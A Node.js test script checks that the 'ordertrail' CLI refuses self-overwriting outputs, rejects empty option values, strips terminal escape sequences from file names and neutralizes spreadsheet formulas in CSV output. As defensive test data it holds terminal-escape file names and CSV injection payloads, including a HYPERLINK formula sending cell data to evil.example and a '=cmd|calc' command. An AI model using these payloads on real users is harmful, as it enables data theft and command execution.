// Guards of the `ordertrail` command against operator slips and hostile names
// (issue 11, items 8-10; reviews/hostile F5-F8):
//
//   same_file/*      sweep refuses an output that is its input, or that is the
//                    other output (same device and inode: also via a symlink,
//                    a hard link, another spelling, stdout or stdin): exit 2,
//                    a message saying why, the input byte for byte untouched
//   empty_value/*    `--now ""` (and `quote --at ""`, `--policy ""`, `-o ""`,
//                    ...) is a usage error, exit 2, never the wall clock
//   names/*          every file name a message prints is sanitized: no ESC,
//                    BEL or other control reaches stderr
//   csv_injection/*  `metrics --csv` text cells that a spreadsheet would run
//                    as a formula start with a single quote, inside quotes
//
//   node cli_guards.mjs --ordertrail BIN
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, readFileSync, rmSync, symlinkSync, linkSync, openSync, closeSync, existsSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

const opt = {};
for (let i = 2; i < process.argv.length; ++i) opt[process.argv[i].replace(/^--/, '')] = process.argv[++i];
if (!opt.ordertrail) {
  console.error('usage: node cli_guards.mjs --ordertrail BIN');
  process.exit(2);
}
const BIN = path.resolve(opt.ordertrail);
const dir = mkdtempSync(path.join(tmpdir(), 'ordertrail-guards-'));
process.on('exit', () => rmSync(dir, { recursive: true, force: true }));
const NOW = '2025-03-20T12:00:00Z';
const at = (name) => path.join(dir, name);

const order = (i, extra = {}) => ({
  order_id: `G-${i}`, market: 'US', seller_id: `S-${i % 3}`, currency: 'USD', total_minor: 2599,
  items: [{ sku: 'SKU-1', name: 'Mug', qty: 1, unit_price_minor: 2599 }],
  placed_at: '2025-03-03T10:00:00-08:00',
  events: [{ type: 'payment_succeeded', at: '2025-03-03T18:05:00Z' }, { type: 'shipped', at: '2025-03-04T18:00:00Z' }],
  ...extra,
});
// 40 lines, 15 of them rejects: more than the 10 a sweep names on stderr.
const ndjsonText = Array.from({ length: 40 }, (_, i) => (i % 8 < 3 ? 'not json' : JSON.stringify(order(i)))).join('\n') + '\n';
const orderFile = at('order.json');
writeFileSync(orderFile, JSON.stringify(order(1)));

let failures = 0;
let checked = 0;
function check(name, problems) {
  ++checked;
  if (problems.length === 0) {
    console.log(`PASS  ${name}`);
    return;
  }
  ++failures;
  for (const p of problems) console.log(`FAIL  ${name}: ${p}`);
}
function run(args, { stdio, input } = {}) {
  const r = spawnSync(BIN, args, { cwd: dir, stdio: stdio ?? ['pipe', 'pipe', 'pipe'], input, encoding: 'utf8', timeout: 60_000 });
  return { status: r.status, stdout: r.stdout ?? '', stderr: r.stderr ?? '', error: r.error };
}
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

// --- same_file ------------------------------------------------------------------
// Each case gets a fresh input; `setup` returns the sweep arguments (after the
// input) and, optionally, stdio for the child. The input must stay byte-identical.
function sameFile(name, setup, expect) {
  const input = at(`${name.replace(/\W/g, '_')}.ndjson`);
  writeFileSync(input, ndjsonText);
  const { args, stdio, input: inArg = input, cleanup } = setup(input);
  const r = run(['sweep', inArg, '--now', NOW, '--threads', '2', ...args], { stdio });
  cleanup?.();
  const problems = [];
  if (r.status !== 2) problems.push(`exit ${r.status}, expected 2 (usage error)`);
  if (!expect.test(r.stderr)) problems.push(`stderr does not say why (${JSON.stringify(r.stderr.slice(0, 300))})`);
  if (readFileSync(input, 'utf8') !== ndjsonText) problems.push(`the input changed: ${statSync(input).size} bytes instead of ${ndjsonText.length}`);
  check(`same_file/${name}`, problems);
}
const DESTROY = /is the (input file|standard input).*would destroy the input/;
const OVERWRITE = /same file.*overwrite each other/;
sameFile('output_is_input', (f) => ({ args: ['-o', f] }), DESTROY);
sameFile('rejects_is_input', (f) => ({ args: ['-o', at('out1.ndjson'), '--rejects', f] }), DESTROY);
sameFile('output_symlink_to_input', (f) => {
  symlinkSync(f, at('link.ndjson'));
  return { args: ['-o', at('link.ndjson')] };
}, DESTROY);
sameFile('rejects_hard_link_to_input', (f) => {
  linkSync(f, at('hard.ndjson'));
  return { args: ['-o', '/dev/null', '--rejects', at('hard.ndjson')] };
}, DESTROY);
sameFile('output_other_spelling_of_input', (f) => ({ args: ['-o', `${path.dirname(f)}/./${path.basename(f)}`] }), DESTROY);
sameFile('stdout_appends_to_input', (f) => {
  const fd = openSync(f, 'a');
  return { args: [], stdio: ['ignore', fd, 'pipe'], cleanup: () => closeSync(fd) };
}, DESTROY);
sameFile('stdin_is_output', (f) => {
  const fd = openSync(f, 'r');
  return { input: '-', args: ['-o', f], stdio: [fd, 'pipe', 'pipe'], cleanup: () => closeSync(fd) };
}, DESTROY);

// Two outputs on one file: an existing one, one created by the sweep (two
// names of a file that does not exist yet), and a symlink.
function twoOutputs(name, args, created) {
  const input = at(`${name}.ndjson`);
  writeFileSync(input, ndjsonText);
  const r = run(['sweep', input, '--now', NOW, ...args]);
  const problems = [];
  if (r.status !== 2) problems.push(`exit ${r.status}, expected 2`);
  if (!OVERWRITE.test(r.stderr)) problems.push(`stderr does not say why (${JSON.stringify(r.stderr.slice(0, 300))})`);
  if (readFileSync(input, 'utf8') !== ndjsonText) problems.push('the input changed');
  for (const f of created ?? []) if (existsSync(f) && statSync(f).size > 0) problems.push(`${path.basename(f)} was written`);
  check(`same_file/${name}`, problems);
}
writeFileSync(at('both.ndjson'), 'keep me\n');
twoOutputs('output_is_rejects_existing', ['-o', at('both.ndjson'), '--rejects', at('both.ndjson')]);
if (readFileSync(at('both.ndjson'), 'utf8') !== 'keep me\n') check('same_file/output_is_rejects_existing_untouched', ['the existing output was truncated before the refusal']);
twoOutputs('output_is_rejects_new', ['-o', at('new.ndjson'), '--rejects', at('new.ndjson')], [at('new.ndjson')]);
twoOutputs('output_is_rejects_new_two_spellings', ['-o', at('new2.ndjson'), '--rejects', `${dir}/./new2.ndjson`], [at('new2.ndjson')]);
symlinkSync(at('both.ndjson'), at('both-link.ndjson'));
twoOutputs('rejects_symlink_to_output', ['-o', at('both.ndjson'), '--rejects', at('both-link.ndjson')]);

// What must still work: distinct files, /dev/null twice, stdout and stderr on
// one file through the shell's 2>&1 (one shared offset: whole lines interleave).
{
  const input = at('ok.ndjson');
  writeFileSync(input, ndjsonText);
  const r = run(['sweep', input, '--now', NOW, '-o', at('ok.out'), '--rejects', at('ok.rej')]);
  const out = readFileSync(at('ok.out'), 'utf8').split('\n').filter(Boolean).length;
  const rej = readFileSync(at('ok.rej'), 'utf8').split('\n').filter(Boolean).length;
  check('same_file/distinct_files_still_work', [
    ...(r.status === 1 ? [] : [`exit ${r.status}, expected 1 (some lines rejected)`]),
    ...(out === 25 && rej === 15 ? [] : [`${out} results + ${rej} rejects, expected 25 + 15`]),
  ]);
  const n = run(['sweep', input, '--now', NOW, '-o', '/dev/null', '--rejects', '/dev/null']);
  check('same_file/dev_null_twice_allowed', n.status === 1 ? [] : [`exit ${n.status}: ${n.stderr.slice(0, 200)}`]);
  const fd = openSync(at('merged.log'), 'w');
  const m = run(['sweep', input, '--now', NOW], { stdio: ['ignore', fd, fd] });
  closeSync(fd);
  const merged = readFileSync(at('merged.log'), 'utf8');
  const lines = merged.split('\n').filter((l) => l.startsWith('{'));
  check('same_file/stdout_and_stderr_shared_allowed', [
    ...(m.status === 1 ? [] : [`exit ${m.status}`]),
    ...(lines.length === 40 && lines.every((l) => { try { JSON.parse(l); return true; } catch { return false; } }) ? [] : [`${lines.length} whole JSON lines, expected 40`]),
  ]);
}

// --- empty_value ----------------------------------------------------------------
const ndjson = at('orders.ndjson');
writeFileSync(ndjson, ndjsonText);
const policyFile = at('policy.json');
writeFileSync(policyFile, run(['policy', 'show', 'US', '--json']).stdout);
const empties = {
  status_now: [['status', orderFile, '--now', ''], /status: --now is empty/],
  status_now_json: [['status', orderFile, '--json', '--now', ''], /--now is empty/],
  timeline_now: [['timeline', orderFile, '--now', ''], /timeline: --now is empty/],
  sweep_now: [['sweep', ndjson, '--now', ''], /sweep: --now is empty/],
  metrics_now: [['metrics', ndjson, '--from', '2025-03-01', '--to', '2025-03-31', '--now', ''], /metrics: --now is empty/],
  quote_at: [['quote', '--market', 'US', '--at', ''], /quote: --at is empty/],
  policy_check_now: [['policy', 'check', policyFile, '--now', ''], /policy: --now is empty/],
  status_policy: [['status', orderFile, '--now', NOW, '--policy', ''], /--policy is empty/],
  sweep_output: [['sweep', ndjson, '--now', NOW, '-o', ''], /--output is empty/],
  sweep_rejects: [['sweep', ndjson, '--now', NOW, '--rejects', ''], /--rejects is empty/],
  quote_market: [['quote', '--market', '', '--at', NOW], /--market is empty/],
  metrics_from: [['metrics', ndjson, '--from', '', '--to', '2025-03-31', '--now', NOW], /--from is empty/],
};
for (const [name, [args, expect]] of Object.entries(empties)) {
  const r = run(args);
  check(`empty_value/${name}`, [
    ...(r.status === 2 ? [] : [`exit ${r.status}, expected 2`]),
    ...(expect.test(r.stderr) ? [] : [`stderr: ${JSON.stringify(r.stderr.slice(0, 200))}`]),
    ...(r.stdout === '' ? [] : [`stdout not empty: ${JSON.stringify(r.stdout.slice(0, 120))}`]),
  ]);
}
{
  // Absent --now still means the clock (documented): status runs and says the year is not 2025's March.
  const r = run(['status', orderFile, '--json']);
  let now = null;
  try { now = JSON.parse(r.stdout).now; } catch { /* checked below */ }
  const year = new Date().getUTCFullYear();
  check('empty_value/absent_now_is_the_clock', r.status === 0 && typeof now === 'string' && now.startsWith(String(year)) ? [] : [`exit ${r.status}, now ${now}`]);
}

// --- names ----------------------------------------------------------------------
// File names holding OSC/CSI/bidi controls, in every message that names a file.
const osc = (s) => `${s}\u001b]0;PWNED\u0007\u001b[31m\u202e`;
const hostileRejects = at(osc('rejects') + '.ndjson');
const hostileMissing = at(osc('missing') + '.json');
const hostileDir = at(osc('nodir'));
const hostileLink = at(osc('link') + '.ndjson');
symlinkSync(ndjson, hostileLink);
const nameCases = {
  rejects_file_in_summary: [['sweep', ndjson, '--now', NOW, '-o', '/dev/null', '--rejects', hostileRejects], /5 more rejected line\(s\) in .*rejects\.ndjson/],
  missing_order_file: [['status', hostileMissing, '--now', NOW], /cannot read .*missing\.json/],
  missing_sweep_input: [['sweep', hostileMissing, '--now', NOW], /cannot read .*missing\.json/],
  missing_metrics_input: [['metrics', hostileMissing, '--from', '2025-03-01', '--to', '2025-03-31', '--now', NOW], /cannot read .*missing\.json/],
  missing_policy_file: [['status', orderFile, '--now', NOW, '--policy', hostileMissing], /cannot read .*missing\.json/],
  unwritable_output: [['sweep', ndjson, '--now', NOW, '-o', path.join(hostileDir, 'x')], /cannot write .*nodir/],
  unwritable_rejects: [['sweep', ndjson, '--now', NOW, '-o', '/dev/null', '--rejects', path.join(hostileDir, 'x')], /cannot write .*nodir/],
  same_file_refusal: [['sweep', ndjson, '--now', NOW, '-o', hostileLink], /-o .*link\.ndjson is the input file/],
  input_named_in_summary: [['sweep', hostileLink, '--now', NOW, '-o', '/dev/null'], /sweep: .*link\.ndjson: 40 lines read/],
  usage_error_value: [['sweep', ndjson, '--now', osc('2025')], /--now: /],
  metrics_window: [['metrics', ndjson, '--from', '2025-03-31', '--to', '2025-03-01', '--now', NOW], /--to 2025-03-01 is before --from 2025-03-31/],
};
for (const [name, [args, expect]] of Object.entries(nameCases)) {
  const r = run(args);
  const problems = [];
  const bad = CONTROLS.exec(r.stderr) ?? CONTROLS.exec(r.stdout);
  if (bad) problems.push(`U+${bad[0].codePointAt(0).toString(16).padStart(4, '0')} reached the terminal: ${JSON.stringify(r.stderr.slice(Math.max(0, bad.index - 60), bad.index + 20))}`);
  if (!expect.test(r.stderr)) problems.push(`stderr lacks the expected message: ${JSON.stringify(r.stderr.slice(0, 300))}`);
  check(`names/${name}`, problems);
}

// --- csv_injection --------------------------------------------------------------
// Seller ids a spreadsheet would run (OWASP: leading =, +, -, @, tab, CR), and
// plain ones that must stay as they are. Expected cells worked out by hand:
// the quote goes inside the quoted cell; tab and CR are shown as a space (the
// CLI's terminal-safe text) and the cell is neutralised all the same.
const sellers = [
  ['formula_equals', '=HYPERLINK("http://evil.example/?"&A1,"x")', '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"'],
  ['formula_plus', '+1+2', '"\'+1+2"'],
  ['formula_minus', '-2+3', '"\'-2+3"'],
  ['formula_at', '@SUM(1+1)', '"\'@SUM(1+1)"'],
  ['formula_after_tab', '\t=1+1', '"\' =1+1"'],
  ['formula_after_cr', '\r=2+2', '"\' =2+2"'],
  ['formula_after_spaces', '  =cmd|calc', '"\'  =cmd|calc"'],
  ['plain_kept', 'S-plain', 'S-plain'],
  ['comma_quoted', 'S-a,b', '"S-a,b"'],
  ['equals_inside_kept', 'S-=inside', 'S-=inside'],
];
{
  const file = at('sellers.ndjson');
  writeFileSync(file, sellers.map(([, id], i) => JSON.stringify(order(i, { seller_id: id }))).join('\n') + '\n');
  const r = run(['metrics', file, '--from', '2025-03-01', '--to', '2025-03-31', '--now', NOW, '--csv']);
  const rows = r.stdout.split('\n').slice(1).filter(Boolean);
  const firstCell = (row) => {
    if (!row.startsWith('"')) return row.slice(0, row.indexOf(','));
    let i = 1;
    for (;;) {
      const q = row.indexOf('"', i);
      if (row[q + 1] === '"') i = q + 2;
      else return row.slice(0, q + 1);
    }
  };
  const cells = new Set(rows.map(firstCell));
  if (r.status === null || r.status > 1) check('csv_injection/metrics_ran', [`exit ${r.status}: ${r.stderr.slice(0, 300)}`]);
  for (const [name, , cell] of sellers) {
    check(`csv_injection/${name}`, cells.has(cell) ? [] : [`no row starts with ${cell}; first cells: ${[...cells].join(' | ')}`]);
  }
  // No first cell (of any row) begins with a formula character once unquoted.
  const live = [...cells].filter((c) => /^[=+\-@\t\r]/.test(c.replace(/^"/, '').trimStart()));
  check('csv_injection/no_live_formula', live.length ? [`live: ${live.join(' | ')}`] : []);
}

console.log(`${checked - failures} of ${checked} checks passed`);
process.exit(failures ? 1 : 0);
